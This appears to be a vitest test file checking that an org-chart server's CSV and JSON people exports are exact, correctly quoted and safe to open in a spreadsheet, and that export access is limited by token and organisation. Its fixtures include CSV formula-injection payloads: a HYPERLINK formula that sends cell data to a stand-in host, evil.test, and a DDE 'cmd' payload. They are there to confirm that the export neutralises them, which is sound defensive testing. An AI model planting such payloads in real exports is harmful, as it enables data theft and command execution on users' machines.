/** CSV and JSON export on the built server: the whole org, exact in JSON, spreadsheet-safe in CSV. */
import Papa from 'papaparse';
import { beforeAll, describe, expect, test } from 'vitest';
import type { Person } from '../../src/lib/protocol';
import { addMember, bearerFetch, json } from '../helpers/accounts';
import { stackTargets, useAppServer } from '../helpers/targets';

type Exported = { name: string; title: string; department: string | null; email: string | null; location: string | null; manager: string | null; managerId: string | null; startDate: string | null; id: string };

/** Names and titles a spreadsheet would run as formulas, or that need RFC 4180 quoting. */
const hostile = [
	{ name: '=HYPERLINK("http://evil.test?x="&A1,"Click")', title: '+cmd|\' /C calc\'!A0' },
	{ name: '-1 Minus', title: '@x SUM(A1)' },
	{ name: 'Quote "The Boss", Jr.', title: 'Line one\nline two' }
];

for (const target of stackTargets()) {
	describe(`export (${target.label})`, () => {
		const app = useAppServer(target);
		const created: Person[] = [];

		beforeAll(async () => {
			for (const fields of hostile) {
				const response = await app().fetch('/api/orgs/acme/people', {
					method: 'POST',
					headers: json,
					body: JSON.stringify({ ...fields, manager: 'Jane Smith', email: `${created.length}@hostile.test`, startDate: '2024-05-31' })
				});
				expect(response.status, await response.clone().text()).toBe(201);
				created.push(((await response.json()) as { person: Person }).person);
			}
		});

		test('JSON: the whole org with exact values, manager by email plus managerId', async () => {
			const response = await app().fetch('/api/orgs/acme/people.json');
			expect(response.status).toBe(200);
			expect(response.headers.get('content-type')).toContain('application/json');
			const body = (await response.json()) as { organization: { id: string; slug: string; name: string }; people: Exported[] };
			expect(body.organization).toMatchObject({ slug: 'acme', name: 'Acme Corporation' });
			const listed = ((await (await app().fetch('/api/orgs/acme/people')).json()) as { people: Person[] }).people;
			expect(body.people).toHaveLength(listed.length);
			const jane = listed.find((person) => person.name === 'Jane Smith')!;
			const first = body.people.find((person) => person.id === created[0].id)!;
			expect(first).toEqual({
				name: hostile[0].name,
				title: hostile[0].title,
				department: created[0].department,
				email: '0@hostile.test',
				location: created[0].location,
				manager: jane.email ?? jane.name,
				managerId: jane.id,
				startDate: '2024-05-31',
				vacancy: false,
				dottedLineManagerIds: [],
				id: created[0].id
			});
			// Managers come before their reports, so a reader meets every manager first.
			const position = new Map(body.people.map((person, index) => [person.id, index]));
			for (const person of body.people) if (person.managerId) expect(position.get(person.managerId)!).toBeLessThan(position.get(person.id)!);
		});

		test('CSV: BOM, header row, RFC 4180 quoting, formulas neutralised, attachment named after the org', async () => {
			const response = await app().fetch('/api/orgs/acme/people.csv');
			expect(response.status).toBe(200);
			expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
			expect(response.headers.get('content-disposition')).toBe('attachment; filename="acme-people.csv"');
			const bytes = new Uint8Array(await response.arrayBuffer());
			expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
			const text = new TextDecoder().decode(bytes.slice(3));
			expect(text.split('\r\n')[0]).toBe('name,title,department,email,location,manager,manager_id,start_date,vacancy,dotted_line_manager_ids,id');
			// Quotes doubled, fields with commas, quotes or line breaks quoted.
			expect(text).toContain('"Quote ""The Boss"", Jr."');
			expect(text).toContain('"Line one\nline two"');
			const rows = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data;
			const row = (id: string) => rows.find((entry) => entry.id === id)!;
			expect(row(created[0].id).name).toBe(`'${hostile[0].name}`);
			expect(row(created[0].id).title).toBe(`'${hostile[0].title}`);
			expect(row(created[1].id).name).toBe(`'${hostile[1].name}`);
			expect(row(created[1].id).title).toBe(`'${hostile[1].title}`);
			expect(row(created[2].id)).toMatchObject({ name: hostile[2].name, title: hostile[2].title, start_date: '2024-05-31', email: '2@hostile.test' });
			const listed = ((await (await app().fetch('/api/orgs/acme/people')).json()) as { people: Person[] }).people;
			expect(rows).toHaveLength(listed.length);
			for (const person of listed) expect(row(person.id).manager_id).toBe(person.managerId ?? '');
		});

		test('a viewer token exports; another org is a 404', async () => {
			const viewer = await addMember(app(), 'acme', 'viewer');
			const created = await viewer.fetch('/api/tokens', { method: 'POST', headers: json, body: JSON.stringify({ name: 'export', orgId: 'acme' }) });
			const { token } = (await created.json()) as { token: string };
			const asToken = bearerFetch(app(), token);
			expect((await asToken('/api/orgs/acme/people.csv')).status).toBe(200);
			expect((await asToken('/api/orgs/acme/people.json')).status).toBe(200);
			const other = await app().fetch('/api/orgs', { method: 'POST', headers: json, body: JSON.stringify({ name: 'Elsewhere Inc' }) });
			const slug = ((await other.json()) as { organization: { slug: string } }).organization.slug;
			for (const format of ['csv', 'json']) {
				const refused = await asToken(`/api/orgs/${slug}/people.${format}`);
				expect(refused.status).toBe(404);
				expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('not_found');
			}
			expect((await bearerFetch(app(), 'oc_wrong')('/api/orgs/acme/people.csv')).status).toBe(401);
		});
	});
}
